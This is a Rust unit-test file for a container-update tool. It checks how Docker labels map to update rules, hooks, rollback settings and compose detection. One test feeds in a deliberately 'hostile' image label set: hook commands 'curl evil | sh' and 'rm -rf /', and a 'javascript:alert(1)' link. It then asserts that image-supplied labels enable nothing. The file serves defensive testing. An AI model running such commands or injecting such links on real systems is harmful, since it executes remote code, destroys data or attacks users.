use super::*;

fn labels(pairs: &[(&str, &str)]) -> Labels {
    pairs
        .iter()
        .map(|(k, v)| ((*k).to_owned(), (*v).to_owned()))
        .collect()
}

fn rules(pairs: &[(&str, &str)]) -> ContainerRules {
    UserLabels::new(&labels(pairs), &Labels::new()).rules()
}

#[test]
fn every_label_is_read() {
    let rules = rules(&[
        ("dd.watch", "true"),
        ("dd.tag.include", r"^\d+$"),
        ("dd.tag.exclude", "rc"),
        ("dd.tag.transform", "(.*) => $1"),
        ("dd.tag.family", "loose"),
        ("dd.watch.digest", "FALSE"),
        ("dd.registry.lookup.image", "library/nginx"),
        ("dd.inspect.tag.path", "Config/Labels/version"),
        ("dd.display.name", "Web"),
        ("dd.display.icon", "sh:nginx"),
        ("dd.display.picture", "https://x/y.png"),
        ("dd.link.template", "https://x/${original}"),
        ("dd.group", "front"),
        ("dd.trigger.include", "docker.local:minor"),
        ("dd.trigger.exclude", "slack.x"),
        ("dd.webhook.enabled", "false"),
        ("dd.rollback.auto", "true"),
        ("dd.rollback.window", "300000"),
        ("dd.rollback.interval", "10000"),
        ("dd.update.rollback-gate", "off"),
        ("dd.hook.pre", "backup"),
        ("dd.hook.post", "warm"),
        ("dd.hook.pre.abort", "false"),
        ("dd.hook.timeout", "1000"),
        ("dd.update.stability", "3"),
        ("dd.updatePolicy.skipTags", "1.0, 2.0"),
        ("dd.updatePolicy.maturityMode", "mature"),
        ("dd.updatePolicy.maturityMinAgeDays", "14"),
        ("dd.update.mode", "infrastructure"),
        ("dd.compose.file", "/srv/a.yml"),
        ("dd.source.repo", "https://git/x"),
    ]);
    assert_eq!(rules.problems, Vec::<String>::new());
    let json = serde_json::to_value(&rules).unwrap();
    assert_eq!(
        json,
        serde_json::json!({
            "watch": true, "includeTags": r"^\d+$", "excludeTags": "rc",
            "transformTags": "(.*) => $1", "tagFamily": "loose", "watchDigest": false,
            "lookupImage": "library/nginx", "inspectTagPath": "Config/Labels/version",
            "displayName": "Web", "displayIcon": "sh:nginx",
            "displayPicture": "https://x/y.png", "linkTemplate": "https://x/${original}",
            "group": "front", "triggerInclude": "docker.local:minor",
            "triggerExclude": "slack.x", "webhookEnabled": false,
            "rollback": {"auto": true, "windowMs": 300000, "intervalMs": 10000, "gate": false},
            "hooks": {"pre": "backup", "post": "warm", "preAbort": false, "timeoutMs": 1000},
            "stabilitySecs": 3,
            "policy": {"skipTags": ["1.0", "2.0"], "maturityMode": "mature", "maturityMinAgeDays": 14},
            "infrastructure": true, "composeFile": "/srv/a.yml", "sourceRepo": "https://git/x",
        })
    );
    assert_eq!(
        serde_json::from_value::<ContainerRules>(json).unwrap(),
        rules
    );
}

#[test]
fn older_names_are_read_and_the_newer_one_wins() {
    assert_eq!(
        rules(&[("wud.tag.include", "a")]).include_tags.as_deref(),
        Some("a")
    );
    let both = rules(&[("wud.tag.include", "a"), ("dd.tag.include", "b")]);
    assert_eq!(both.include_tags.as_deref(), Some("b"));
    let own = rules(&[
        ("dd.update.stability", "9"),
        ("plimsoll.update.stability", "2"),
    ]);
    assert_eq!(own.stability_secs, Some(2));
}

#[test]
fn unreadable_values_become_messages_and_change_nothing() {
    let rules = rules(&[
        ("dd.watch", "maybe"),
        ("dd.update.stability", "0"),
        ("dd.updatePolicy.maturityMinAgeDays", "400"),
        ("dd.tag.family", "wild"),
        ("dd.tag.include", "  "),
    ]);
    assert_eq!(rules.watch, None);
    assert_eq!(rules.include_tags, None);
    assert_eq!(rules.problems.len(), 4, "{:?}", rules.problems);
    assert!(rules.problems[0].contains("dd.watch: `maybe` is none of true, false"));
}

#[test]
fn an_images_own_labels_enable_nothing() {
    let hostile = labels(&[
        ("dd.watch", "false"),
        ("wud.watch", "false"),
        ("dd.tag.include", "^never$"),
        ("dd.tag.exclude", ".*"),
        ("dd.watch.digest", "false"),
        ("dd.registry.lookup.image", "evil/image"),
        ("dd.hook.pre", "curl evil | sh"),
        ("dd.hook.post", "rm -rf /"),
        ("dd.update.mode", "infrastructure"),
        ("dd.update.rollback-gate", "off"),
        ("dd.update.stability", "86400"),
        ("plimsoll.update.stability", "86400"),
        ("dd.trigger.include", "docker.local:all"),
        ("dd.webhook.enabled", "false"),
        ("dd.rollback.auto", "false"),
        ("dd.updatePolicy.skipTags", "1.0.1"),
        ("dd.display.name", "postgres"),
        ("dd.link.template", "javascript:alert(1)"),
        ("com.docker.compose.project", "prod"),
        ("com.docker.compose.service", "db"),
        ("io.kubernetes.pod.uid", "1"),
        ("com.docker.swarm.service.id", "1"),
    ]);
    let user = UserLabels::new(&hostile, &hostile);
    assert_eq!(user.rules(), ContainerRules::default());
    assert_eq!(user.compose(), None);
    assert_eq!(user.manager(), None);
}

#[test]
fn a_users_label_over_the_images_counts() {
    let image = labels(&[("dd.watch", "true")]);
    let container = labels(&[("dd.watch", "false")]);
    assert_eq!(
        UserLabels::new(&container, &image).rules().watch,
        Some(false)
    );
}

#[test]
fn compose_services_are_recognised_but_not_their_one_off_runs() {
    let mut set = labels(&[
        ("com.docker.compose.project", "shop"),
        ("com.docker.compose.service", "web"),
    ]);
    let none = Labels::new();
    let compose = UserLabels::new(&set, &none).compose().unwrap();
    assert_eq!((&*compose.project, &*compose.service), ("shop", "web"));
    set.insert("com.docker.compose.oneoff".into(), "True".into());
    assert_eq!(UserLabels::new(&set, &none).compose(), None);
}

#[test]
fn the_source_of_an_image_is_a_web_address() {
    let source = |key, value| source_repo(&labels(&[(key, value)])).map(str::to_owned);
    let own = "org.opencontainers.image.source";
    assert_eq!(
        source(own, " https://git/x ").as_deref(),
        Some("https://git/x")
    );
    assert_eq!(source(own, "javascript:alert(1)"), None);
    assert_eq!(
        source("org.opencontainers.image.url", "http://x").as_deref(),
        Some("http://x")
    );
}

#[test]
fn other_managers_are_recognised() {
    let set = labels(&[("com.docker.swarm.service.id", "abc")]);
    assert_eq!(
        UserLabels::new(&set, &Labels::new()).manager(),
        Some(Manager::Swarm)
    );
}
